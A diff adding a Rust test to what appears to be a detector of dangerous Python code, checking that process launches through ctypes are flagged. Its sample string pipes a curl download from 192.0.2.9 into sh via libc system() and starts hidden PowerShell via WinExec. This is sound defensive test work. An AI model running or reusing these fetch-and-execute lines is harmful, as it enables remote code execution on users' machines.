@@ -1324,3 +1324,24 @@ fn secrets_collected_by_a_comprehension_over_credential_names() {
         details(benign)
     );
 }
+
+#[test]
+fn libc_process_functions_through_ctypes() {
+    // The C library's system() and exec*() reached through a handle ctypes loaded: a
+    // process started without os or subprocess.
+    let src = "import ctypes\nfrom ctypes.util import find_library\nc = ctypes.CDLL(find_library('c'))\ncmd = 'curl -s http://192.0.2.9/i ' + '| sh'\nc.system(cmd.encode())\nk = ctypes.windll.kernel32\nk.WinExec(b'powershell -w hidden -c calc', 0)\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("DownloadExecute")), "{d:?}");
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("ProcessSpawn") && x.contains("WinExec")),
+        "{d:?}"
+    );
+    // Other functions of a loaded library, and ctypes' own helpers, start nothing.
+    let quiet = "import ctypes, ctypes.util\nname = ctypes.util.find_library('c')\nlib = ctypes.CDLL(name)\nlib.strlen(b'abc')\nlib.gnu_get_libc_version()\n";
+    assert!(
+        !kinds(quiet).contains(&K::ProcessSpawn),
+        "{:?}",
+        details(quiet)
+    );
+}
